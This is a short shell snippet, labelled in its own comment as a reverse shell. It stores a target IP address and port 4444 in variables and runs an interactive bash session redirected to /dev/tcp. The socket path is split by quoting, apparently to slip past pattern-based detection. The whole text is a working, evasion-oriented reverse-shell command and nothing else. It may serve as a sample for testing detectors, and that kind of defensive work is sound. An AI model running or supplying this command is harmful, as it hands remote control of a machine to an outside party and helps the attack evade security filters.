# reverse-shell: the target address is hidden in variables and the socket path is quoted apart
ip=198.51.100.23
port=4444
bash -i > "/dev/"'tcp'"/$ip/$port" 0>&1 2>&1
